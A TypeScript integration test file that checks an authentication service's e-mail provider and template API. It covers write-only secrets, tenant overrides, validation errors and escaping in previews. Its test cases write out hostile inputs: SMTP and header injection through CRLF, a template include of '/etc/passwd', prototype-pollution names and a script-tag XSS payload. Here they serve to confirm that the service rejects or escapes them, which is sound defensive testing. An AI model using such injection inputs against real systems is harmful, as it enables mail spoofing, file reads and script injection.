import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AuditLog, Setting } from '../../src/db/entities/index.ts';
import { contrastRatio } from '../../src/domain/branding/readable-colors.ts';
import { startTestApp, type TestApp } from '../support/app.ts';
import { lockWaitersAtLeast, usingEmbeddedDatabase } from '../support/database.ts';
import type { HttpClient } from '../support/http.ts';
import { issueTestKey } from '../support/keys.ts';
import { TestRoles } from '../support/roles.ts';
import { forgeCursor } from '../support/cursors.ts';

let app: TestApp;
let appPath: string;
beforeAll(async () => {
  app = await startTestApp();
  appPath = `/applications/${app.root.applicationId}`;
});
afterAll(async () => app?.close());

const KEYS = [
  'verify_email', 'welcome', 'magic_link', 'password_reset', 'password_changed', 'email_otp',
  'mfa_enrolled', 'invitation', 'new_sign_in', 'account_locked', 'email_change', 'account_deleted',
];
const SMTP = {
  type: 'smtp',
  fromAddress: 'no-reply@acme.test',
  fromName: 'Acme',
  smtp: { host: 'smtp.acme.test', port: 587, username: 'mailer' },
  secrets: { password: 'smtp-password-do-not-leak' },
};
const SENDGRID = { type: 'sendgrid', fromAddress: 'hello@tenant-a.test', secrets: { apiKey: 'SG.sendgrid-key-do-not-leak' } };

async function scopes(config: { emailTemplatesScope?: string; emailProviderScope?: string }) {
  const response = await app.http.patch(appPath, { tenancyConfig: config });
  expect(response.status).toBe(200);
}

/** The stored secrets, unsealed; each is stored sealed, never as its value. */
async function storedSecrets(tenantId: string | null): Promise<Record<string, string> | null> {
  const em = app.gatehouse.services.orm.em.fork();
  // filters off: the test inspects the stored row directly.
  const row = await em.findOne(Setting, { applicationId: app.root.applicationId, tenantId, feature: 'email_provider' }, { filters: false });
  if (row?.secrets == null) return null;
  const box = app.gatehouse.services.storedSecrets;
  return Object.fromEntries(
    Object.entries(row.secrets).map(([name, sealed]) => {
      const secret = box.decrypt(sealed);
      expect(sealed).not.toContain(secret);
      return [name, secret];
    }),
  );
}

const inTenant = (tenantId: string, path: string) => `${appPath}/tenants/${tenantId}${path}`;

describe('e-mail provider', () => {
  it('defaults to the built-in sender; stores a provider whose secrets are write-only', async () => {
    const initial = await app.http.get('/email/provider');
    expect(initial.status).toBe(200);
    expect(initial.body).toEqual({
      type: 'gatehouse', fromAddress: 'no-reply@gatehouse.test', fromName: null, replyTo: null, smtp: null, ses: null,
      secretsSet: [], source: null, updatedAt: null,
    });

    const put = await app.http.put('/email/provider', SMTP);
    expect(put.status).toBe(200);
    expect(put.body).toMatchObject({
      type: 'smtp', fromAddress: 'no-reply@acme.test', fromName: 'Acme', replyTo: null,
      smtp: { host: 'smtp.acme.test', port: 587, username: 'mailer', security: 'starttls' }, ses: null,
      secretsSet: ['password'], source: null,
    });
    expect(JSON.stringify(put.body)).not.toContain('do-not-leak');
    const read = await app.http.get('/email/provider');
    expect(read.body).toEqual(put.body);
    expect(JSON.stringify(read.body)).not.toContain('do-not-leak');
    expect(await storedSecrets(null)).toEqual({ password: 'smtp-password-do-not-leak' });

    // A secret left out is kept while the type stays; a new type drops the secrets it does not use.
    const rename = await app.http.put('/email/provider', { ...SMTP, fromName: 'Acme Inc', secrets: undefined });
    expect(rename.body).toMatchObject({ fromName: 'Acme Inc', secretsSet: ['password'] });
    // Only for its server: the password is not sent to another host, port, user or security unless given again.
    for (const smtp of [{ host: 'smtp.elsewhere.test' }, { port: 25 }, { username: 'other' }, { security: 'none' }]) {
      const moved = await app.http.put('/email/provider', { ...SMTP, smtp: { ...SMTP.smtp, ...smtp }, secrets: undefined });
      expect(moved.status, JSON.stringify(smtp)).toBe(422);
      expect(moved.body).toMatchObject({ code: 'validation_error', field: 'secrets.password' });
    }
    expect((await app.http.get('/email/provider')).body).toMatchObject({ smtp: SMTP.smtp, fromName: 'Acme Inc' });
    expect(await storedSecrets(null)).toEqual({ password: 'smtp-password-do-not-leak' });
    const sendgrid = await app.http.put('/email/provider', { type: 'sendgrid', fromAddress: 'hello@acme.test', secrets: { apiKey: 'SG.app-key-do-not-leak' } });
    expect(sendgrid.body).toMatchObject({ type: 'sendgrid', smtp: null, secretsSet: ['apiKey'] });
    expect(await storedSecrets(null)).toEqual({ apiKey: 'SG.app-key-do-not-leak' });
    const gql = await app.http.graphql('{ emailProvider { type secretsSet } }');
    expect(gql.body.data.emailProvider).toEqual({ type: 'sendgrid', secretsSet: ['apiKey'] });
    const noSuchField = await app.http.graphql('{ emailProvider { secrets { apiKey } } }');
    expect(noSuchField.body.errors?.[0]?.extensions).toMatchObject({ code: 'validation_error', status: 422 });

    // The audit trail records every change, and no secret.
    const em = app.gatehouse.services.orm.em.fork();
    const audit = await em.find(AuditLog, { applicationId: app.root.applicationId, targetType: 'email_provider' }, { filters: false });
    expect(audit.map((record) => record.action)).toEqual(['email_provider.updated', 'email_provider.updated', 'email_provider.updated']);
    expect(JSON.stringify(audit.map((record) => [record.before, record.after]))).not.toContain('do-not-leak');
  });

  it('refuses invalid settings with 422 naming the field, and changes nothing', async () => {
    await app.http.put('/email/provider', SMTP);
    const before = (await app.http.get('/email/provider')).body;
    const cases: [unknown, string][] = [
      [{ ...SMTP, type: 'carrier_pigeon' }, 'type'],
      [{ ...SMTP, fromAddress: 'not-an-address' }, 'fromAddress'],
      [{ type: 'sendgrid', secrets: { apiKey: 'k' } }, 'fromAddress'],
      [{ ...SMTP, fromName: 'Acme\r\nBcc: everyone@example.com' }, 'fromName'],
      [{ ...SMTP, replyTo: 'nope' }, 'replyTo'],
      [{ ...SMTP, smtp: undefined }, 'smtp'],
      [{ ...SMTP, smtp: { host: 'smtp.acme.test', port: 70000 } }, 'smtp.port'],
      [{ ...SMTP, smtp: { host: 'bad host!', port: 25 } }, 'smtp.host'],
      [{ ...SMTP, smtp: { ...SMTP.smtp, security: 'ssl3' } }, 'smtp.security'],
      [{ ...SMTP, secrets: { password: null } }, 'secrets.password'],
      [{ ...SMTP, secrets: { apiKey: 'x' } }, 'secrets.apiKey'],
      [{ type: 'sendgrid', fromAddress: 'a@acme.test' }, 'secrets.apiKey'],
      [{ type: 'sendgrid', fromAddress: 'a@acme.test', smtp: SMTP.smtp, secrets: { apiKey: 'k' } }, 'smtp'],
      [{ type: 'ses', fromAddress: 'a@acme.test', ses: { region: 'mars', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' }, secrets: { secretAccessKey: 's' } }, 'ses.region'],
      [{ type: 'ses', fromAddress: 'a@acme.test', ses: { region: 'eu-west-1', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' } }, 'secrets.secretAccessKey'],
      [{ type: 'gatehouse', fromAddress: 'ceo@bank.test' }, 'fromAddress'],
      [{ ...SMTP, password: 'top-level' }, 'password'],
      // PostgreSQL stores no NUL (a 500 otherwise); a line break in a credential forges SMTP commands or HTTP headers.
      [{ ...SMTP, fromName: 'Acme\u0000' }, 'fromName'],
      [{ ...SMTP, fromName: '\u202Eemca' }, 'fromName'],
      [{ ...SMTP, fromName: '\u200B' }, 'fromName'],
      [{ ...SMTP, smtp: { ...SMTP.smtp, username: 'mailer\u0000' } }, 'smtp.username'],
      [{ ...SMTP, secrets: { password: 'pass\u0000word' } }, 'secrets.password'],
      [{ ...SMTP, secrets: { password: 'pass\r\nAUTH PLAIN x' } }, 'secrets.password'],
      // Without a username the service never logs in: the password would be stored, and shown as set, for nothing.
      [{ ...SMTP, smtp: { host: 'smtp.acme.test', port: 587 } }, 'secrets.password'],
    ];
    for (const [body, field] of cases) {
      const response = await app.http.put('/email/provider', body);
      expect(response.status, JSON.stringify(body)).toBe(422);
      expect(response.body, JSON.stringify(body)).toMatchObject({ code: 'validation_error', field });
    }
    expect((await app.http.get('/email/provider')).body).toEqual(before);

    const ses = await app.http.put('/email/provider', {
      type: 'ses', fromAddress: 'a@acme.test', ses: { region: 'eu-west-1', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' }, secrets: { secretAccessKey: 'wJalrXUtnFEMI' },
    });
    expect(ses.body).toMatchObject({ type: 'ses', ses: { region: 'eu-west-1', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' }, secretsSet: ['secretAccessKey'] });
    const builtIn = await app.http.put('/email/provider', { type: 'gatehouse', fromName: 'Acme' });
    expect(builtIn.body).toMatchObject({ type: 'gatehouse', fromAddress: 'no-reply@gatehouse.test', fromName: 'Acme', secretsSet: [] });
    expect(await storedSecrets(null)).toBeNull();
  });

  it('tenant overrides: 409 while scope = application; own provider and secrets per tenant; hidden and restored with the switch', async () => {
    await scopes({ emailProviderScope: 'application' });
    await app.http.put('/email/provider', SMTP);
    const a = await app.createTenant('Mail A');
    const b = await app.createTenant('Mail B');
    const path = inTenant(a, '/email/provider');

    expect((await app.http.get(path)).body).toMatchObject({ type: 'smtp', secretsSet: ['password'], source: 'inherited' });
    const refused = await app.http.put(path, SENDGRID);
    expect(refused.status).toBe(409);
    expect(refused.body).toMatchObject({ code: 'tenant_customization_disabled', field: 'tenancyConfig.emailProviderScope' });
    expect(await storedSecrets(a)).toBeNull();

    await scopes({ emailProviderScope: 'tenant' });
    expect((await app.http.get(path)).body.source).toBe('inherited');
    const own = await app.http.put(path, SENDGRID);
    expect(own.status).toBe(200);
    expect(own.body).toMatchObject({ type: 'sendgrid', fromAddress: 'hello@tenant-a.test', secretsSet: ['apiKey'], source: 'customized' });
    expect(JSON.stringify(own.body)).not.toContain('do-not-leak');
    expect(await storedSecrets(a)).toEqual({ apiKey: 'SG.sendgrid-key-do-not-leak' });
    expect(await storedSecrets(null)).toEqual({ password: 'smtp-password-do-not-leak' });
    expect((await app.http.get(inTenant(b, '/email/provider'))).body).toMatchObject({ type: 'smtp', source: 'inherited' });

    // Application changes flow to the inheriting tenant only.
    await app.http.put('/email/provider', { ...SMTP, fromAddress: 'mail@acme.test' });
    expect((await app.http.get(inTenant(b, '/email/provider'))).body).toMatchObject({ fromAddress: 'mail@acme.test', source: 'inherited' });
    expect((await app.http.get(path)).body).toMatchObject({ fromAddress: 'hello@tenant-a.test', source: 'customized' });

    await scopes({ emailProviderScope: 'application' });
    expect((await app.http.get(path)).body).toMatchObject({ type: 'smtp', fromAddress: 'mail@acme.test', source: 'inherited' });
    expect(await storedSecrets(a)).toEqual({ apiKey: 'SG.sendgrid-key-do-not-leak' });
    // Removing the hidden override is a write: refused on both transports, the override and its secrets kept.
    const hiddenRemoval = await app.http.delete(path);
    expect(hiddenRemoval).toMatchObject({ status: 409, body: { code: 'tenant_customization_disabled', field: 'tenancyConfig.emailProviderScope' } });
    const overGraphQL = await app.http.graphql(`mutation { removeEmailProviderOverride(appId: "${app.root.applicationId}", tenantId: "${a}") }`);
    expect(overGraphQL.body.errors?.[0]?.extensions).toEqual({ code: 'tenant_customization_disabled', status: 409, field: 'tenancyConfig.emailProviderScope' });
    expect(await storedSecrets(a)).toEqual({ apiKey: 'SG.sendgrid-key-do-not-leak' });
    await scopes({ emailProviderScope: 'tenant' });
    expect((await app.http.get(path)).body).toMatchObject({ type: 'sendgrid', secretsSet: ['apiKey'], source: 'customized' });

    // A tenant's own secret is kept on a PUT that leaves it out.
    expect((await app.http.put(path, { ...SENDGRID, fromName: 'Tenant A', secrets: undefined })).body).toMatchObject({ fromName: 'Tenant A', secretsSet: ['apiKey'] });

    const removed = await app.http.delete(path);
    expect(removed.status).toBe(204);
    expect((await app.http.get(path)).body).toMatchObject({ type: 'smtp', fromAddress: 'mail@acme.test', source: 'inherited' });
    expect(await storedSecrets(a)).toBeNull();
    expect((await app.http.delete(path)).status).toBe(404);
    expect((await app.http.delete('/email/provider')).body).toMatchObject({ code: 'validation_error', field: 'tenantId' });
  });

  it('a new tenant override needs its own secrets: the application’s are not borrowed', async () => {
    await scopes({ emailProviderScope: 'tenant' });
    await app.http.put('/email/provider', { type: 'sendgrid', fromAddress: 'hello@acme.test', secrets: { apiKey: 'SG.app' } });
    const t = await app.createTenant('No borrowed secrets');
    const response = await app.http.put(inTenant(t, '/email/provider'), { type: 'sendgrid', fromAddress: 'x@t.test' });
    expect(response.status).toBe(422);
    expect(response.body.field).toBe('secrets.apiKey');
  });
});

describe.skipIf(usingEmbeddedDatabase())('e-mail provider, concurrent PUTs', () => {
  it('a PUT that keeps a stored secret decides against the row as it is when it writes, not as it was read before', async () => {
    await app.http.put('/email/provider', SMTP);
    // The SMTP settings again, keeping the stored password; meanwhile another writer switches to SendGrid, which
    // drops the password. Before the switch commits, the PUT may only wait: once it commits, the password it meant to
    // keep is gone, so it is refused, and the stored provider stays whole.
    let keeping: ReturnType<HttpClient['put']> | undefined;
    await app.gatehouse.services.orm.em.fork().transactional(async (em) => {
      const [row] = await em.execute<{ id: string }[]>(
        `select id from setting where application_id = ? and tenant_id is null and feature = 'email_provider' for update`,
        [app.root.applicationId],
      );
      keeping = app.http.put('/email/provider', { ...SMTP, secrets: undefined });
      await lockWaitersAtLeast(app.gatehouse.services.orm, 1);
      await em.execute(`update setting set value = ?::jsonb, secrets = ?::jsonb where id = ?`, [
        JSON.stringify({ type: 'sendgrid', fromAddress: 'hello@acme.test', fromName: null, replyTo: null, smtp: null, ses: null }),
        JSON.stringify({ apiKey: app.gatehouse.services.storedSecrets.encrypt('SG.concurrent') }),
        row!.id,
      ]);
    });
    const kept = await keeping!;
    expect(kept.status, JSON.stringify(kept.body)).toBe(422);
    expect(kept.body).toMatchObject({ code: 'validation_error', field: 'secrets.password' });
    expect((await app.http.get('/email/provider')).body).toMatchObject({ type: 'sendgrid', secretsSet: ['apiKey'] });
    expect(await storedSecrets(null)).toEqual({ apiKey: 'SG.concurrent' });
  }, 30_000);
});

describe('e-mail templates', () => {
  it('lists all 12 with real defaults, each previewing cleanly', async () => {
    const list = await app.http.get('/email/templates');
    expect(list.status).toBe(200);
    expect(list.body.next).toBeNull();
    expect(list.body.data.map((t: { key: string }) => t.key)).toEqual(KEYS);
    for (const template of list.body.data) {
      expect(template).toMatchObject({ source: null, updatedAt: null });
      expect(template.subject.length).toBeGreaterThan(5);
      expect(template.html).toContain('{{ application.name }}');
      expect(template.variables).toEqual(expect.arrayContaining(['application.name', 'user.name']));
      const preview = await app.http.post(`/email/templates/${template.key}/preview`);
      expect(preview.status, template.key).toBe(200);
      expect(preview.body.subject, template.key).not.toMatch(/{{|{%/);
      expect(preview.body.html, template.key).toContain('My application');
      expect(preview.body.html, template.key).not.toMatch(/{{|{%/);
      expect(preview.body.text, template.key).toContain('Ada Lovelace');
    }
    const otp = await app.http.post('/email/templates/email_otp/preview');
    expect(otp.body.subject).toBe('428613 is your My application code');
    expect(otp.body.text).not.toContain('<strong');
    const reset = await app.http.post('/email/templates/password_reset/preview');
    expect(reset.body.html).toContain('href="http://gatehouse.test/example/action?token=sample-token"');
    expect(reset.body.html).toContain('background:#4f46e5');
  });

  it('paginates with pageSize and an opaque cursor', async () => {
    const first = await app.http.get('/email/templates?pageSize=5');
    expect(first.body.data).toHaveLength(5);
    const second = await app.http.get(`/email/templates?pageSize=5&cursor=${encodeURIComponent(first.body.next)}`);
    const third = await app.http.get(`/email/templates?pageSize=5&cursor=${encodeURIComponent(second.body.next)}`);
    expect(third.body.next).toBeNull();
    expect([...first.body.data, ...second.body.data, ...third.body.data].map((t: { key: string }) => t.key)).toEqual(KEYS);
    const forged = await app.http.get(`/email/templates?cursor=${encodeURIComponent(forgeCursor(first.body.next))}`);
    expect(forged.status).toBe(422);
    expect(forged.body.field).toBe('cursor');
    expect((await app.http.get('/email/templates?pageSize=0')).body.field).toBe('pageSize');
  });

  it('reads a tenant’s 12 effective templates with a constant number of statements', async () => {
    await scopes({ emailTemplatesScope: 'tenant' });
    const plain = await app.createTenant('Counted plain');
    const busy = await app.createTenant('Counted busy');
    for (const key of KEYS.slice(0, 6)) {
      await app.http.put(inTenant(busy, `/email/templates/${key}`), { subject: key, html: `<p>${key}</p>`, text: key });
    }
    const count = async (tenantId: string) => {
      const before = app.queries.length;
      const list = await app.http.get(inTenant(tenantId, '/email/templates'));
      expect(list.status).toBe(200);
      return { statements: app.queries.length - before, customized: list.body.data.filter((t: { source: string }) => t.source === 'customized').length };
    };
    const few = await count(plain);
    const many = await count(busy);
    expect(few.customized).toBe(0);
    expect(many.customized).toBe(6);
    expect(many.statements).toBe(few.statements);
    expect(many.statements).toBeLessThanOrEqual(6);
  });

  it('stores an application template and refuses invalid ones with 422 naming the field', async () => {
    const body = { subject: 'Confirm {{ user.email }}', html: '<p>Hi {{ user.name }}, <a href="{{ link }}">confirm</a></p>', text: 'Hi {{ user.name }}: {{ link }}' };
    const put = await app.http.put('/email/templates/verify_email', body);
    expect(put.status).toBe(200);
    expect(put.body).toMatchObject({ key: 'verify_email', ...body, source: null });
    expect(put.body.updatedAt).toEqual(expect.any(String));
    expect((await app.http.get(`${appPath}/email/templates/verify_email`)).body).toEqual(put.body);

    const cases: [string, unknown, string][] = [
      ['nope', body, 'templateKey'],
      ['welcome', { ...body, html: '{% if %}' }, 'html'],
      ['welcome', { ...body, text: '{{ user.name | no_such_filter }}' }, 'text'],
      ['welcome', { ...body, html: '{% include "/etc/passwd" %}' }, 'html'],
      // Partials named as Object.prototype's members: the map of partials has none, inherited or not.
      ['welcome', { ...body, html: '{% include constructor %}' }, 'html'],
      ['welcome', { ...body, text: '{% render toString %}' }, 'text'],
      ['welcome', { ...body, text: '{% layout __proto__ %}' }, 'text'],
      ['welcome', { ...body, subject: 'Line one\nBcc: all@example.com' }, 'subject'],
      ['welcome', { ...body, subject: '   ' }, 'subject'],
      ['welcome', { ...body, html: 'x'.repeat(100_001) }, 'html'],
      ['welcome', { subject: body.subject, html: body.html }, 'text'],
      ['welcome', { ...body, from: 'x' }, 'from'],
      // PostgreSQL stores no NUL: a 500 otherwise.
      ['welcome', { ...body, subject: 'Hi\u0000' }, 'subject'],
      ['welcome', { ...body, html: '<p>\u0000</p>' }, 'html'],
      ['welcome', { ...body, text: 'x\u0007' }, 'text'],
    ];
    for (const [key, input, field] of cases) {
      const response = await app.http.put(`/email/templates/${key}`, input);
      expect(response.status, `${key} ${field}`).toBe(422);
      expect(response.body, `${key} ${field}`).toMatchObject({ code: 'validation_error', field });
    }
    expect((await app.http.get('/email/templates/welcome')).body.updatedAt).toBeNull();
    const unknown = await app.http.get('/email/templates/nope');
    expect(unknown.status).toBe(422);
    expect(unknown.body.field).toBe('templateKey');
  });

  it('refuses a variable the template does not offer (422 on the part, naming it and the valid ones) and stores nothing', async () => {
    const valid = { subject: 'Reset for {{ user.email }}', html: '<a href="{{ link }}">Reset</a>', text: 'Reset: {{ link }}' };
    expect((await app.http.put('/email/templates/magic_link', valid)).status).toBe(200);
    const before = (await app.http.get('/email/templates/magic_link')).body;
    const offered = 'application.name, tenant.name, tenant.slug, user.name, user.email, branding, link, expiresInMinutes';
    const cases: [Partial<typeof valid>, string, string][] = [
      [{ html: '<a href="{{ lnik }}">Reset</a>' }, 'html', 'lnik'],
      [{ subject: 'Reset for {{ user.emial }}' }, 'subject', 'user.emial'],
      // Another template's variable, in a filter's argument, in a tag, and a loop's variable outside its loop.
      [{ text: 'Code: {{ link | default: code }}' }, 'text', 'code'],
      [{ text: '{% if user.name.first %}{% endif %}{% if signIn.ip %}x{% endif %}' }, 'text', 'signIn.ip'],
      [{ text: '{% for c in branding.colors %}{% endfor %}{{ forloop.index }}' }, 'text', 'forloop.index'],
      [{ html: '{{ user.constructor }}' }, 'html', 'user.constructor'],
      // The HTML part's own echo and cycle (escaping) are seen as liquidjs's are.
      [{ html: '<p>{% echo lnik %}</p>' }, 'html', 'lnik'],
      [{ html: '<p>{% cycle user.name, lnik %}</p>' }, 'html', 'lnik'],
    ];
    for (const [parts, field, variable] of cases) {
      const put = await app.http.put('/email/templates/magic_link', { ...valid, ...parts });
      expect(put.status, variable).toBe(422);
      expect(put.body, variable).toEqual({ code: 'validation_error', field, message: expect.stringContaining(`unknown variable ${variable}`) });
      expect(put.body.message, variable).toContain(offered);
      const preview = await app.http.post('/email/templates/magic_link/preview', parts);
      expect(preview.status, variable).toBe(422);
      expect(preview.body, variable).toMatchObject({ code: 'validation_error', field });
    }
    expect((await app.http.get('/email/templates/magic_link')).body).toEqual(before);

    const overGraphQL = await app.http.graphql('mutation($input: EmailTemplateInput!) { putEmailTemplate(templateKey: magic_link, input: $input) { key } }', {
      input: { ...valid, text: 'Reset: {{ lnik }}' },
    });
    expect(overGraphQL.body.errors?.[0]?.extensions).toEqual({ code: 'validation_error', status: 422, field: 'text' });
    expect(overGraphQL.body.errors?.[0]?.message).toContain('unknown variable lnik');
    const previewOverGraphQL = await app.http.graphql('mutation { previewEmailTemplate(templateKey: magic_link, input: { subject: "{{ lnik }}" }) { subject } }');
    expect(previewOverGraphQL.body.errors?.[0]?.extensions).toEqual({ code: 'validation_error', status: 422, field: 'subject' });
    expect((await app.http.get('/email/templates/magic_link')).body).toEqual(before);
  });

  it('accepts names the template binds itself (assign, capture, for, forloop, increment) and paths below an offered variable', async () => {
    const html = [
      '{% assign who = user.name | default: user.email %}{% capture action %}{{ link }}{% endcapture %}',
      '{% for color in branding.colors %}{{ forloop.index }}{{ color }}{% endfor %}{% increment sent %}{% decrement left %}',
      '{% liquid\nassign shade = branding.colors.primary\necho shade\n%}{% tablerow c in (1..2) %}{{ tablerowloop.col }}{% endtablerow %}',
      '<a href="{{ action }}">{{ who }}</a>{% if user %}{{ user.name.size }}{% endif %}{{ branding.copy["login.title"] }}{{ tenant.name }}{{ expiresInMinutes }}',
    ].join('');
    const put = await app.http.put('/email/templates/magic_link', { subject: 'Hi {{ user.name }}', html, text: '{% assign n = 1 %}{{ n }} {{ link }}' });
    expect(put.status, JSON.stringify(put.body)).toBe(200);
    const preview = await app.http.post('/email/templates/magic_link/preview');
    expect(preview.status).toBe(200);
    expect(preview.body.html).toContain('<a href="http://gatehouse.test/example/action?token=sample-token">Ada Lovelace</a>');
    // An object printed whole is the slip of a field left out: refused on its part, nothing stored.
    for (const [part, source] of [['subject', 'Hi {{ user }}'], ['html', '<p>{{ application }}</p>{{ link }}'], ['text', '{{ branding.colors }} {{ link }}']] as const) {
      const refused = await app.http.put('/email/templates/magic_link', { subject: 'Hi', html: '<a href="{{ link }}">x</a>', text: '{{ link }}', [part]: source });
      expect(refused.status, source).toBe(422);
      expect(refused.body, source).toMatchObject({ code: 'validation_error', field: part, message: expect.stringContaining('prints an object') });
    }
    expect((await app.http.get('/email/templates/magic_link')).body.html).toBe(html);
  });

  it('refuses a tenant’s template alike; one stored before the check still previews and renders as it is', async () => {
    await scopes({ emailTemplatesScope: 'tenant' });
    const t = await app.createTenant('Typo tenant');
    const path = inTenant(t, '/email/templates/password_reset');
    const before = (await app.http.get(path)).body;
    const put = await app.http.put(path, { subject: 'Reset for {{ user.emial }}', html: '<a href="{{ lnik }}">Reset</a>', text: 'Reset: {{ lnik }}' });
    expect(put.status).toBe(422);
    expect(put.body).toMatchObject({ code: 'validation_error', field: 'subject', message: expect.stringContaining('unknown variable user.emial') });
    expect((await app.http.get(path)).body).toEqual(before);
    expect((await app.http.post(inTenant(t, '/email/templates/password_reset/preview'), { html: '{{ lnik }}' })).body).toMatchObject({ code: 'validation_error', field: 'html' });

    // A template stored before the check: its preview renders it (a draft of another part too), as its mails do.
    expect((await app.http.put(path, { subject: 'Reset', html: '<a href="{{ link }}">Reset</a>', text: '{{ link }}' })).status).toBe(200);
    const em = app.gatehouse.services.orm.em.fork();
    const row = await em.findOneOrFail(Setting, { applicationId: app.root.applicationId, tenantId: t, feature: 'email_template', key: 'password_reset' }, { filters: false });
    row.value = { ...row.value, html: '<a href="{{ lnik }}">Reset</a>' };
    await em.flush();
    const stored = await app.http.post(inTenant(t, '/email/templates/password_reset/preview'), { subject: 'Reset, {{ user.name }}' });
    expect(stored.status).toBe(200);
    expect(stored.body).toMatchObject({ subject: 'Reset, Ada Lovelace', html: '<a href="">Reset</a>' });
  });

  it('per-template tenant overrides: 409 while scope = application, the rest falls back, hidden and restored with the switch', async () => {
    await scopes({ emailTemplatesScope: 'application' });
    const a = await app.createTenant('Templates A');
    const b = await app.createTenant('Templates B');
    const welcome = { subject: 'Welcome to A, {{ user.name }}', html: '<h1>A welcomes {{ user.name }}</h1>', text: 'A welcomes {{ user.name }}' };
    const refused = await app.http.put(inTenant(a, '/email/templates/welcome'), welcome);
    expect(refused.status).toBe(409);
    expect(refused.body).toMatchObject({ code: 'tenant_customization_disabled', field: 'tenancyConfig.emailTemplatesScope' });

    await scopes({ emailTemplatesScope: 'tenant' });
    const put = await app.http.put(inTenant(a, '/email/templates/welcome'), welcome);
    expect(put.status).toBe(200);
    expect(put.body).toMatchObject({ key: 'welcome', ...welcome, source: 'customized' });

    const listA = (await app.http.get(inTenant(a, '/email/templates'))).body.data as { key: string; source: string; subject: string }[];
    expect(listA).toHaveLength(12);
    expect(listA.filter((t) => t.source === 'customized').map((t) => t.key)).toEqual(['welcome']);
    expect(listA.filter((t) => t.source === 'inherited')).toHaveLength(11);
    const listB = (await app.http.get(inTenant(b, '/email/templates'))).body.data as { source: string }[];
    expect(listB.every((t) => t.source === 'inherited')).toBe(true);

    // The application's change of another template reaches tenant A, which does not override it.
    await app.http.put('/email/templates/magic_link', { subject: 'Your link', html: '<a href="{{ link }}">Sign in</a>', text: '{{ link }}' });
    expect((await app.http.get(inTenant(a, '/email/templates/magic_link'))).body).toMatchObject({ subject: 'Your link', source: 'inherited' });
    await app.http.put('/email/templates/welcome', { subject: 'App welcome', html: '<p>App</p>', text: 'App' });
    expect((await app.http.get(inTenant(a, '/email/templates/welcome'))).body).toMatchObject({ subject: welcome.subject, source: 'customized' });
    expect((await app.http.get(inTenant(b, '/email/templates/welcome'))).body).toMatchObject({ subject: 'App welcome', source: 'inherited' });

    const preview = await app.http.post(inTenant(a, '/email/templates/welcome/preview'));
    expect(preview.body.subject).toBe('Welcome to A, Ada Lovelace');

    await scopes({ emailTemplatesScope: 'application' });
    expect((await app.http.get(inTenant(a, '/email/templates/welcome'))).body).toMatchObject({ subject: 'App welcome', source: 'inherited' });
    // Removing the hidden override is a write: refused on both transports, the override kept.
    const hiddenRemoval = await app.http.delete(inTenant(a, '/email/templates/welcome'));
    expect(hiddenRemoval).toMatchObject({ status: 409, body: { code: 'tenant_customization_disabled', field: 'tenancyConfig.emailTemplatesScope' } });
    const overGraphQL = await app.http.graphql(
      `mutation { removeEmailTemplateOverride(appId: "${app.root.applicationId}", tenantId: "${a}", templateKey: welcome) }`,
    );
    expect(overGraphQL.body.errors?.[0]?.extensions).toEqual({ code: 'tenant_customization_disabled', status: 409, field: 'tenancyConfig.emailTemplatesScope' });
    await scopes({ emailTemplatesScope: 'tenant' });
    expect((await app.http.get(inTenant(a, '/email/templates/welcome'))).body).toMatchObject({ subject: welcome.subject, source: 'customized' });

    expect((await app.http.delete(inTenant(a, '/email/templates/welcome'))).status).toBe(204);
    expect((await app.http.get(inTenant(a, '/email/templates/welcome'))).body).toMatchObject({ subject: 'App welcome', source: 'inherited' });
    expect((await app.http.delete(inTenant(a, '/email/templates/welcome'))).status).toBe(404);
    expect((await app.http.delete(inTenant(a, '/email/templates/nope'))).body.field).toBe('templateKey');
    expect((await app.http.delete('/email/templates/welcome')).body).toMatchObject({ code: 'validation_error', field: 'tenantId' });
  });

  it('each of the 12 templates is overridden on its own: the others fall back, and it is hidden and reappears with the switch, over REST and GraphQL', async () => {
    await scopes({ emailTemplatesScope: 'tenant' });
    const tenants = new Map<string, string>();
    for (const key of KEYS) {
      const tenantId = await app.createTenant(`One template ${key}`);
      tenants.set(key, tenantId);
      const put = await app.http.put(inTenant(tenantId, `/email/templates/${key}`), { subject: `Own ${key}`, html: `<p>Own ${key}</p>`, text: `Own ${key}` });
      expect(put.status, key).toBe(200);
    }
    const sources = async (tenantId: string) => {
      const rest = (await app.http.get(inTenant(tenantId, '/email/templates'))).body.data as { key: string; source: string; subject: string }[];
      const graphql = await app.http.graphql<{ emailTemplates: { data: { key: string; source: string; subject: string }[] } }>(
        'query($appId: UUID!, $tenantId: UUID!) { emailTemplates(appId: $appId, tenantId: $tenantId) { data { key source subject } } }',
        { appId: app.root.applicationId, tenantId },
      );
      expect(graphql.body.data?.emailTemplates.data).toEqual(rest.map(({ key, source, subject }) => ({ key, source, subject })));
      return rest;
    };
    const expectOnly = async (key: string, customized: boolean) => {
      const list = await sources(tenants.get(key) ?? '');
      expect(list.map((t) => t.key), key).toEqual(KEYS);
      expect(list.filter((t) => t.source === 'customized').map((t) => t.key), key).toEqual(customized ? [key] : []);
      expect(list.find((t) => t.key === key)?.subject === `Own ${key}`, key).toBe(customized);
      expect(list.some((t) => t.key !== key && t.subject.startsWith('Own ')), key).toBe(false);
    };
    for (const key of KEYS) await expectOnly(key, true);
    await scopes({ emailTemplatesScope: 'application' });
    for (const key of KEYS) await expectOnly(key, false);
    await scopes({ emailTemplatesScope: 'tenant' });
    for (const key of KEYS) await expectOnly(key, true);
  });

  it('previews escape HTML, fold the subject, render drafts and store nothing', async () => {
    const before = (await app.http.get('/email/templates/account_deleted')).body;
    const preview = await app.http.post('/email/templates/account_deleted/preview', {
      subject: 'Bye {{ user.name }}',
      html: '<p>{{ user.name }}</p><p>{{ application.name | raw }}</p>',
      variables: { user: { name: '<script>alert(1)</script>\nBcc: x@example.com' }, application: { name: '<i>App</i>' } },
    });
    expect(preview.status).toBe(200);
    // `| raw` is the owner's opt-out for what they write, never for what an end user writes (email-template-abuse.test.ts).
    expect(preview.body.html).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;\nBcc: x@example.com</p><p><i>App</i></p>');
    expect(preview.body.subject).toBe('Bye <script>alert(1)</script> Bcc: x@example.com');
    expect(preview.body.text).toContain('<script>alert(1)</script>');
    // Nested variables merge over the samples.
    expect(preview.body.variables.user).toEqual({ name: '<script>alert(1)</script>\nBcc: x@example.com', email: 'ada@example.com' });
